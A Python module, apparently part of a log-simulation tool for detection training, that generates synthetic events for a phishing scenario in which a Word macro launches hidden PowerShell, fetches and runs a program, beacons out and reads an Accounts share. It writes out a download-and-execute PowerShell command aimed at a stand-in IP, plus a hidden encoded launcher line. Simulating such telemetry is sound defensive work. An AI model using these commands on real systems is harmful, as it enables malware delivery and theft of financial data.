"""The Word macro: an emailed invoice downloads and runs a program that reads the Accounts share."""

from __future__ import annotations

from watchkeeper.scenarios.linux_audit import share_access
from watchkeeper.scenarios.nxlog import guid_prefix
from watchkeeper.scenarios.office import DOMAIN, HOST_BY_NAME, USER_BY_NAME, User, WindowsHost
from watchkeeper.scenarios.programs import OFFICE16, POWERSHELL_EXE
from watchkeeper.scenarios.script import MINUTE_MS, Script, encode_powershell

MACRO_URL = "http://198.51.100.23/inv/update.exe"
SHARE_LOOT = (
    "Supplier payments November.xlsx",
    "VAT return Q3.xlsx",
    "Budget 2027.xlsx",
    "Bank details - suppliers.xlsx",
    "Payroll 2026.xlsx",
    "Invoice template.docx",
    "Customer accounts.xlsx",
    "Card payments October.csv",
)
MACRO_COMMAND = (
    f"Invoke-WebRequest -Uri '{MACRO_URL}' -OutFile \"$env:TEMP\\update.exe\"; "
    'Start-Process "$env:TEMP\\update.exe"'
)


def office_macro(s: Script, t: int) -> None:
    """dave opens an invoice from Outlook; its macro downloads and starts a program that reads the share."""
    host, user = HOST_BY_NAME["PC-ACCT-02"], USER_BY_NAME["dave"]
    who = f"{DOMAIN}\\{user.name}"
    attachment = f"{user.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7K2MB1D\\Invoice_INV-20931.docm"
    outlook = (
        f"{OFFICE16}\\OUTLOOK.EXE",
        f'"{OFFICE16}\\OUTLOOK.EXE" ',
        f"{{{guid_prefix(host)}-5d10-6566-8c00-000000001300}}",
        7420,
    )
    s.file(t, host, image=outlook[0], guid=outlook[2], pid=outlook[3], user=who, target=attachment)
    ps_cmd, ps_guid, ps_pid = _macro_starts_powershell(s, t, host, user, outlook, attachment)
    s.script_block(t + 36_000, host, text=MACRO_COMMAND, pid=ps_pid, user=user.name)
    s.connect(
        t + 37_000,
        host,
        image=POWERSHELL_EXE,
        guid=ps_guid,
        pid=ps_pid,
        user=who,
        dst="198.51.100.23",
        port=80,
    )
    dropped = f"{user.home}\\AppData\\Local\\Temp\\update.exe"
    s.file(
        t + 39_000, host, image=POWERSHELL_EXE, guid=ps_guid, pid=ps_pid, user=who, target=dropped
    )
    guid, pid = s.process(
        t + 41_000,
        host,
        image=dropped,
        command=f'"{dropped}" ',
        user=who,
        parent=(POWERSHELL_EXE, ps_cmd, ps_guid, ps_pid),
        directory=f"{user.home}\\Documents\\",
    )
    for beacon in range(6):
        s.connect(
            t + 50_000 + beacon * 5 * MINUTE_MS + s.rng.randrange(30_000),
            host,
            image=dropped,
            guid=guid,
            pid=pid,
            user=who,
            dst="198.51.100.23",
            port=443,
        )
    # Then the program reads the Accounts share through dave's session, file after file.
    t += 12 * MINUTE_MS
    smbd = 41_000 + s.rng.randrange(2000)
    for index, name in enumerate(SHARE_LOOT):
        for number, (kind, body) in enumerate(share_access(user, f"Accounts/{name}", smbd)):
            s.audit(t + index * 1500, kind, body, first=number == 0)
    s.story(
        "office_macro",
        "Word macro in an emailed invoice downloads and runs a program",
        ("T1566.001", "T1204.002", "T1059.001", "T1105", "T1071.001", "T1039"),
        users=(user.name,),
        source_ips=("198.51.100.23",),
        details={
            "host": host.name,
            "document": "Invoice_INV-20931.docm",
            "url": MACRO_URL,
            "decoded_command": MACRO_COMMAND,
            "dropped_file": dropped,
        },
    )


def _macro_starts_powershell(
    s: Script,
    t: int,
    host: WindowsHost,
    user: User,
    outlook: tuple[str, str, str, int],
    attachment: str,
) -> tuple[str, str, int]:
    """Word opens the attachment and its macro starts PowerShell: the command line, guid and pid."""
    who = f"{DOMAIN}\\{user.name}"
    word_image = f"{OFFICE16}\\WINWORD.EXE"
    word_cmd = f'"{word_image}" /n "{attachment}" /o ""'
    word_guid, word_pid = s.process(
        t + 20_000,
        host,
        image=word_image,
        command=word_cmd,
        user=who,
        parent=outlook,
        directory=f"{user.home}\\Documents\\",
        describe=(
            "16.0.18129.20158",
            "Microsoft Word",
            "Microsoft Office",
            "Microsoft Corporation",
            "WinWord.exe",
        ),
    )
    encoded = encode_powershell(MACRO_COMMAND)
    ps_cmd = f"powershell.exe -NoP -NonI -W Hidden -enc {encoded}"
    ps_guid, ps_pid = s.process(
        t + 35_000,
        host,
        image=POWERSHELL_EXE,
        command=ps_cmd,
        user=who,
        parent=(word_image, word_cmd, word_guid, word_pid),
        directory=f"{user.home}\\Documents\\",
        describe=(
            "10.0.19041.5072",
            "Windows PowerShell",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "PowerShell.EXE",
        ),
    )
    return ps_cmd, ps_guid, ps_pid
